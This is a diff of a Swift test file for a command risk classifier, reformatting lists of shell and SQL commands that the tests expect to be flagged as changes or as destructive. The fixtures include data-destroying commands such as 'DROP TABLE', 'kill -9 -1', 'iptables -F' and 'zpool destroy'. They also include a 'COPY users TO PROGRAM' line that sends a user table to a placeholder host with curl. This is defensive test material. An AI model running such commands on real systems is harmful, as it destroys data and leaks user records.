@@ -5,9 +5,11 @@ import Testing
 /// (issue #11, item 4). Each line is what a careful commander would call it.
 struct DangerousRiskTests {
     @Test(arguments: [
-        ("ip link set eth0 down", "bash"), ("sysctl -w net.ipv4.ip_forward=1", "bash"), ("sysctl vm.swappiness=10", "bash"),
-        ("clickhouse-client -q \"ALTER TABLE t UPDATE x = 1 WHERE y\"", "bash"), ("SELECT * INTO backup_users FROM users;", "sql"),
-        ("ip route add default via 10.0.0.1", "bash"), ("etcdctl put /k v", "bash"),
+        ("ip link set eth0 down", "bash"), ("sysctl -w net.ipv4.ip_forward=1", "bash"),
+        ("sysctl vm.swappiness=10", "bash"),
+        ("clickhouse-client -q \"ALTER TABLE t UPDATE x = 1 WHERE y\"", "bash"),
+        ("SELECT * INTO backup_users FROM users;", "sql"),
+        ("ip route add default via 10.0.0.1", "bash"), ("etcdctl put /k v", "bash")
     ])
     func neverRead(code: String, language: String) {
         let verdict = RiskRules.classify(code, language: language)
@@ -16,11 +18,13 @@ struct DangerousRiskTests {
 
     @Test(arguments: [
         ("clickhouse-client -q \"DROP TABLE events\"", "bash"), ("COPY users TO PROGRAM 'curl -d @- http://x';", "sql"),
-        ("SELECT lo_unlink(16384);", "sql"), ("UPDATE users SET admin = true;", "sql"), ("DELETE FROM sessions;", "sql"),
+        ("SELECT lo_unlink(16384);", "sql"), ("UPDATE users SET admin = true;", "sql"),
+        ("DELETE FROM sessions;", "sql"),
         ("ALTER TABLE users DROP COLUMN email;", "sql"), ("DO $$ BEGIN DELETE FROM jobs; END $$;", "sql"),
         ("echo \"DROP TABLE users\" | psql app", "bash"), ("etcdctl del --prefix /registry", "bash"),
-        ("lvremove -f vg0/data", "bash"), ("kill -9 -1", "bash"), ("iptables -F", "bash"), ("nft flush ruleset", "bash"),
-        ("ip link delete veth0", "bash"), ("zpool destroy tank", "bash"),
+        ("lvremove -f vg0/data", "bash"), ("kill -9 -1", "bash"), ("iptables -F", "bash"),
+        ("nft flush ruleset", "bash"),
+        ("ip link delete veth0", "bash"), ("zpool destroy tank", "bash")
     ])
     func destructive(code: String, language: String) {
         let verdict = RiskRules.classify(code, language: language)
@@ -29,12 +33,13 @@ struct DangerousRiskTests {
 
     @Test(arguments: [
         "ip addr show", "ip route", "sysctl net.ipv4.ip_forward", "etcdctl get /registry --prefix --keys-only",
-        "kill -1 1234", "iptables -L -n",
+        "kill -1 1234", "iptables -L -n"
     ])
     func stillRead(code: String) {
         let verdict = RiskRules.classify(code, language: "bash")
-        #expect(verdict.risk <= .change && (code.hasPrefix("kill") ? verdict.risk == .change : verdict.risk == .read),
-                "\(code): \(verdict.reason)")
+        #expect(
+            verdict.risk <= .change && (code.hasPrefix("kill") ? verdict.risk == .change : verdict.risk == .read),
+            "\(code): \(verdict.reason)")
     }
 
     @Test func updateWithWhereStaysAChange() {
